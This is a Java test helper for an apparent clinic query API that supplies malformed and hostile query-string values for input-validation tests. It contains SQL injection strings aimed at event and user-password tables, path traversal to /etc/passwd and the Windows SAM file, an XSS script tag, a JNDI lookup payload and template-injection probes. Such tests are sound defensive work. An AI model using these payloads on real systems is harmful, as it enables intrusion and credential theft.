package org.triggerpoint.clinic.query.web;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * Values an attacker or a careless script puts into a query string or a path, drawn from a seeded {@link Random}.
 * Each is returned as it goes on the wire (percent-encoded where a browser would encode it, raw where the attack is
 * the encoding itself).
 */
final class HostileQueryValues {

    /** What a parameter holds, and so which wrong values mean something for it. */
    enum Kind { UUID, INSTANT, MONTH, PAGE, SIZE, GROUP_BY, EXPORT_FORMAT, AUDIT_FORMAT, TEXT }

    /** Free text that is harmless where text is allowed: it must be searched for as the letters it is. */
    static final List<String> HOSTILE_TEXT = List.of(
            "'; DROP TABLE events.domain_event_entry; --",
            "1' OR '1'='1",
            "\" OR \"\"=\"",
            "1; SELECT pg_sleep(10)",
            "UNION SELECT username, password_hash FROM identity.user_account --",
            "%' OR 1=1 --",
            "_%_%_",
            "../../../../etc/passwd",
            "..\\..\\windows\\system32\\config\\sam",
            "<script>alert('x')</script>",
            "${jndi:ldap://example.org/a}",
            "#{7*7} {{7*7}}",
            "Zoë Ångström – 東京 عربى",
            "👩‍⚕️🩺",
            "\u202Eevil\u202C",
            "null", "undefined", "NaN", "true", "[]", "{}");

    /** Percent-escapes that do not decode to UTF-8 text: broken, truncated, overlong, or half a surrogate pair. */
    static final List<String> BROKEN_ENCODINGS = List.of(
            "%", "%zz", "%4", "abc%", "%E2%82", "%ED%A0%80", "%ED%B0%80", "x%ED%A0%BDy", "%C0%AF", "%FF", "%FE%FF",
            "%F8%88%80%80%80");

    /** Control characters, percent-encoded (a raw one never passes the HTTP parser). */
    static final List<String> CONTROL_CHARACTERS = List.of("%00", "%01", "%07", "%08", "%09", "%0A", "%0D", "%1B",
            "%7F", "%C2%85", "%C2%9F");

    private HostileQueryValues() {
    }

    static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    static <T> T pick(Random random, List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    /** A wire value that is wrong for a parameter of {@code kind}: malformed, out of range, or an unknown name. */
    static String wrong(Random random, Kind kind) {
        if (random.nextInt(4) == 0) {
            return encoded(pick(random, HOSTILE_TEXT));
        }
        return encoded(pick(random, switch (kind) {
            case UUID -> List.of("not-a-uuid", "123", "00000000-0000-0000-0000-00000000000g",
                    "00000000-0000-0000-0000-0000000000000", "{00000000-0000-0000-0000-000000000000}",
                    "00000000000000000000000000000000", "0-0-0-0-0-0");
            case INSTANT -> List.of("yesterday", "2026-03-02", "2026-03-02T09:00:00", "2026-13-01T00:00:00Z",
                    "2026-02-30T00:00:00Z", "2026-03-02T25:00:00Z", "2026-03-02 09:00:00Z", "1772441999",
                    "2026-03-02T09:00:00+25:00", "2026-03-02T09:00:00ZZ");
            case MONTH -> List.of("yesterday", "2025-13", "2025-00", "2025-1", "25-01", "2025/01", "2025-02-30",
                    "20250-01", "-2025-01", "2025-01-01T00:00:00Z", "March 2025");
            case PAGE -> List.of("-1", "-2147483648", "2147483648", "99999999999999999999", "1e3", "0x10", "1.0",
                    "one", "1 ", "+-1");
            case SIZE -> List.of("0", "-1", "101", "1000000", "2147483647", "-2147483648", "2147483648", "1e2",
                    "20.5", "all", "NaN");
            case GROUP_BY -> List.of("MONTH", "Month", "month ", " month", "months", "month,muscle", "client",
                    "name", "dateOfBirth", "0", "condition;muscle");
            case EXPORT_FORMAT -> List.of("FHIR", "Json", "xml", "csv", "fhir+json", "application/fhir+json",
                    "json ", "0");
            case AUDIT_FORMAT -> List.of("CSV", "Csv", "xml", "pdf", "csv ", "text/csv", "1", "xlsx");
            case TEXT -> List.of("x");
        }));
    }

    /** Valid but extreme values: a correct answer may be empty, never a failure. */
    static String extreme(Random random, Kind kind) {
        return encoded(pick(random, switch (kind) {
            case INSTANT -> List.of("+1000000000-12-31T23:59:59.999999999Z", "-1000000000-01-01T00:00:00Z",
                    "0000-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "1970-01-01T00:00:00Z");
            case MONTH -> List.of("0000-01", "9999-12", "1970-01", "0001-01-01", "9999-12-31");
            case PAGE -> List.of("2147483647", "1000000", "0");
            case SIZE -> List.of("1", "100");
            case UUID -> List.of("00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff");
            default -> List.of(valid(kind));
        }));
    }

    /** A value that is right for the kind. */
    static String valid(Kind kind) {
        return switch (kind) {
            case UUID -> "0b6c6f1e-5d33-4f7a-9c7e-2a4d8e1f0a11";
            case INSTANT -> "2026-03-02T09:00:00Z";
            case MONTH -> "2026-03";
            case PAGE -> "0";
            case SIZE -> "20";
            case GROUP_BY -> "month";
            case EXPORT_FORMAT, AUDIT_FORMAT -> "json";
            case TEXT -> "Quinlan";
        };
    }

    /** A parameter name someone meant to be {@code name}: mistyped, in the wrong case, or padded. */
    static String typoOf(Random random, String name) {
        return switch (random.nextInt(6)) {
            case 0 -> name.toUpperCase();
            case 1 -> name + "s";
            case 2 -> name.substring(1);
            case 3 -> name.substring(0, 1) + name;
            case 4 -> name + " ";
            default -> pick(random, List.of("sise", "pageSize", "limit", "offset", "sort", "q", "search",
                    "group_by", "groupby", "client_id", "user", "since", "until", "date", "callback", "_"));
        };
    }

    /** A string of {@code length} characters, letters only, so only its length is wrong. */
    static String longText(Random random, int length) {
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append((char) ('a' + random.nextInt(26)));
        }
        return text.toString();
    }
}
